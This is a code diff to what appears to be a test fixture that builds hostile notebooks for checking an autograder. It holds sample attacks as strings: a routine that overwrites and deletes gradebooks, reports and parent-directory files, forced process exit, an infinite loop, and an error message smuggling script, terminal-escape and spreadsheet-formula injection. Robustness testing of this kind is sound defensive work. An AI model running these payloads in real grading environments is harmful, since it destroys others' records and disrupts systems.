@@ -1,6 +1,6 @@
-"""Notebooks that attack while a class is graded: one wrong solution with code in it that does harm.
+"""Notebooks that attack while a class is graded: a wrong solution with harmful code in it.
 
-Each has the same two mistakes, so that what it may earn is known: no more than ``BODY`` without an attack.
+Each has the same two mistakes, so that it must not earn more than the same solution without an attack.
 """
 
 from __future__ import annotations
@@ -12,7 +12,7 @@ from corpus import wrong
 
 _HEAD = "class NoiseDiffuser:\n"
 _RETURN = "        return diffused, noise"
-# What runs when the definitions are loaded: it stands in a class body, and is lifted with it.
+# Code that runs when the definitions are loaded, since it stands in a class body.
 AT_LOADING = {
     "exits": "import os; os._exit(0)",
     "forks": """
@@ -52,39 +52,40 @@ AT_LOADING = {
                     if stat.S_ISFIFO(os.fstat(number).st_mode): os.write(number, frame)
                 except OSError: pass
     """,
-    "spoils": """
+    "vandalises": """
         import glob, os
         known = ["class/mistaken.ipynb", "reports/mistaken.json", "reports/gradebook.sqlite", "planted"]
         found = [f"FOLDER/{name}" for name in known] + glob.glob("FOLDER/**", recursive=True)
         found += glob.glob("../**", recursive=True)
         for name in found:
-            for spoil in (lambda: open(name, "w").write("{}"), lambda: os.remove(name)):
-                try: spoil()
+            for damage in (lambda: open(name, "w").write("{}"), lambda: os.remove(name)):
+                try: damage()
                 except OSError: pass
     """,
 }  # fmt: skip
 
-# What runs whenever it is asked to add noise.
-WHEN_ASKED = {
+# Code that runs whenever the method that adds noise is called.
+WHEN_CALLED = {
     "loops": "while True: pass",
-    "raves": """
+    "injects": """
         raise RuntimeError("<script>document.title = 'owned'</script>\\x1b[2J=HYPERLINK(1)")
     """,
 }
-NAMES = (*AT_LOADING, *WHEN_ASKED)
+NAMES = (*AT_LOADING, *WHEN_CALLED)
 
 
 def sources(name: str, folder: Path) -> list[str]:
-    """The cells of one hostile notebook.
+    """Return the cells of one hostile notebook.
 
     Args:
-        folder: where the grades of the others will lie.
+        name: one of ``NAMES``.
+        folder: folder of the class and its reports, for attacks that damage files there.
     """
     cells = wrong("betas_reversed", "image_root_missing")
     if code := AT_LOADING.get(name):
         attack = f"    def attack():\n{_block(code, folder)}    attack()\n"
         return [cell.replace(_HEAD, _HEAD + attack) for cell in cells]
-    return [cell.replace(_RETURN, _block(WHEN_ASKED[name], folder).rstrip()) for cell in cells]
+    return [cell.replace(_RETURN, _block(WHEN_CALLED[name], folder).rstrip()) for cell in cells]
 
 
 def _block(code: str, folder: Path) -> str:
